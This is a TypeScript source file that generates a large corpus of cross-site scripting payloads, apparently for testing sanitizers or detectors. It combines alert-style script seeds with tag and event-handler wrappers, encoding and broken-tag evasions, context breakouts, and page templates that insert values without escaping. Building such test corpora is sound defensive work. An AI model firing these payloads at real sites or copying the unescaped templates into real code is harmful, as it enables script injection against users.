import { hashOf } from '../../corpus/load.js';

/** Script injections: seeds of many kinds and the disguises that attackers use. `executed.json` says which of them a browser ran. */
const JS = [
  'alert(1)',
  'alert`1`',
  "alert('x')",
  'confirm(document.domain)',
  'prompt(1)',
  'window["alert"](1)',
  'self.alert(1)',
  'frames.alert(1)',
  "eval('ale'+'rt(1)')",
  'eval(atob("YWxlcnQoMSk="))',
  '(alert)(1)',
  '[1].map(alert)',
  "setTimeout('alert(1)',0)",
  'Function("alert(1)")()',
  'throw onerror=alert,1',
  'alert?.(1)',
  'import("data:text/javascript,alert(1)")',
  'a=alert,a(1)',
  'Reflect.apply(alert,null,[1])',
  'alert(1)//',
];
const TAGS: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<script >${js}</script >`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<script src="data:text/javascript,${js.replace(/"/g, "'")}"></script>`,
  (js) => `<script>${js}`,
  (js) => `<img src=x onerror="${js.replace(/"/g, "'")}">`,
  (js) => `<img src=x onerror=${js.replace(/[ "]/g, "'")}>`,
  (js) => `<img/src=x/onerror="${js.replace(/"/g, "'")}"/>`,
  (js) => `<IMG SRC=x OnErRoR='${js.replace(/'/g, '"')}'>`,
  (js) => `<img src=x onerror\n=\n"${js.replace(/"/g, '&quot;')}">`,
  (js) => `<img src=x onerror="${[...js].map((c) => `&#${c.charCodeAt(0)};`).join('')}">`,
  (js) => `<img src=x onerror="${[...js].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')}">`,
  (js) => `<image src=x onerror="${js.replace(/"/g, "'")}">`,
  (js) => `<svg onload="${js.replace(/"/g, "'")}">`,
  (js) => `<svg/onload="${js.replace(/"/g, "'")}"/>`,
  (js) => `<svg><script>${js.replace(/</g, '&lt;')}</script></svg>`,
  (js) => `<svg><animate onbegin="${js.replace(/"/g, "'")}" attributeName=x dur=1s>`,
  (js) => `<body onload="${js.replace(/"/g, "'")}">`,
  (js) => `<video><source onerror="${js.replace(/"/g, "'")}"></video>`,
  (js) => `<video src=x onerror="${js.replace(/"/g, "'")}"></video>`,
  (js) => `<audio src=x onerror="${js.replace(/"/g, "'")}">`,
  (js) => `<details open ontoggle="${js.replace(/"/g, "'")}">x</details>`,
  (js) => `<input autofocus onfocus="${js.replace(/"/g, "'")}">`,
  (js) => `<select autofocus onfocus="${js.replace(/"/g, "'")}"></select>`,
  (js) => `<textarea autofocus onfocus="${js.replace(/"/g, "'")}"></textarea>`,
  (js) => `<div id=x tabindex=1 autofocus onfocus="${js.replace(/"/g, "'")}">x</div>`,
  (js) => `<iframe src="javascript:parent.${js.replace(/"/g, "'")}"></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js.replace(/"/g, "'")}</script>"></iframe>`,
  (js) => `<iframe onload="${js.replace(/"/g, "'")}"></iframe>`,
  (js) => `<object data=x onerror="${js.replace(/"/g, "'")}"></object>`,
  (js) => `<embed src=x onerror="${js.replace(/"/g, "'")}">`,
  (js) => `<style onload="${js.replace(/"/g, "'")}"></style>`,
  (js) => `<link rel=stylesheet href="data:text/css,x" onload="${js.replace(/"/g, "'")}">`,
  (js) => `<marquee onstart="${js.replace(/"/g, "'")}">x</marquee>`,
  (js) => `<a href="javascript:${js.replace(/"/g, "'")}" id=go>x</a>`,
  (js) => `<a href="java\tscript:${js.replace(/"/g, "'")}" id=go>x</a>`,
  (js) => `<a href=" &#1;javascript&colon;${js.replace(/"/g, "'")}" id=go>x</a>`,
  (js) => `<a href="&#106;avascript:${js.replace(/"/g, "'")}" id=go>x</a>`,
  (js) => `<form action="javascript:${js.replace(/"/g, "'")}"><button id=go>x</button></form>`,
  (js) => `<form><button id=go formaction="javascript:${js.replace(/"/g, "'")}">x</button></form>`,
  (js) => `<svg><a xlink:href="javascript:${js.replace(/"/g, "'")}" id=go><text x=9 y=9>x</text></a></svg>`,
  (js) => `<math><a xlink:href="javascript:${js.replace(/"/g, "'")}" id=go>x</a></math>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror='${js.replace(/['"]/g, '`')}'>">`,
  (js) => `<template><b></template><img src=x onerror="${js.replace(/"/g, "'")}">`,
  (js) => `<x onclick="${js.replace(/"/g, "'")}" id=go>x</x>`,
  (js) => `<b onmouseover="${js.replace(/"/g, "'")}" id=go>x</b>`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<!--><script>${js}</script>-->`,
  (js) => `<math><mtext></p><script>${js}</script>`,
];
/** Ways out of where a page put the value. */
const OUTS = [
  '',
  '">',
  "'>",
  '--><b>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  'harmless words ',
  '"/>',
  'x\' y="z">',
];
const ATTRIBUTES: readonly ((js: string) => string)[] = [
  (js) => `" autofocus onfocus="${js.replace(/"/g, "'")}`,
  (js) => `' autofocus onfocus='${js.replace(/'/g, '"')}`,
  (js) => `x autofocus onfocus=${js.replace(/[ "']/g, '`')}`,
  (js) => `"autofocus/onfocus="${js.replace(/"/g, "'")}`,
  (js) => `" onfocus\n=\n"${js.replace(/"/g, "'")}" autofocus x="`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `javascript://x%0a${js}`,
  (js) => `javascript:/*x*/${js}`,
];
const SCRIPTS: readonly ((js: string) => string)[] = [
  (js) => `';${js}//`,
  (js) => `";${js}//`,
  (js) => `'-${js}-'`,
  (js) => `"-${js}-"`,
  (js) => `'+${js}+'`,
  (js) => `'||${js}||'`,
  (js) => `\${${js}}`,
  (js) => `'};${js};//`,
  (js) => `');${js};//`,
  (js) => `\`;${js};//`,
  (js) => `',${js},'`,
];

export function scriptAttacks(): string[] {
  const made = new Set<string>();
  for (const js of JS) {
    for (const tag of TAGS) {
      for (const out of OUTS) if (out === '' || hashOf(out + tag(js)) % 8 === 0) made.add(out + tag(js));
    }
    for (const form of [...ATTRIBUTES, ...SCRIPTS]) made.add(form(js));
  }
  return [...made];
}

/** Where pages put values without escaping them. */
export const PAGES: readonly ((value: string) => string)[] = [
  (v) => `<div>${v}</div>`,
  (v) => `<input value="${v}">`,
  (v) => `<input value='${v}'>`,
  (v) => `<input value=${v}>`,
  (v) => `<a id=go href="${v}">x</a>`,
  (v) => `<!-- ${v} -->`,
  (v) => `<title>${v}</title>`,
  (v) => `<textarea>${v}</textarea>`,
  (v) => `<style>${v}</style>`,
  (v) => `<script>var a = '${v}';</script>`,
  (v) => `<script>var a = "${v}";</script>`,
  (v) => `<script>var a = \`${v}\`;</script>`,
  (v) => `<script>var a = {b: '${v}'};</script>`,
  (v) => `<script>String('${v}');</script>`,
];
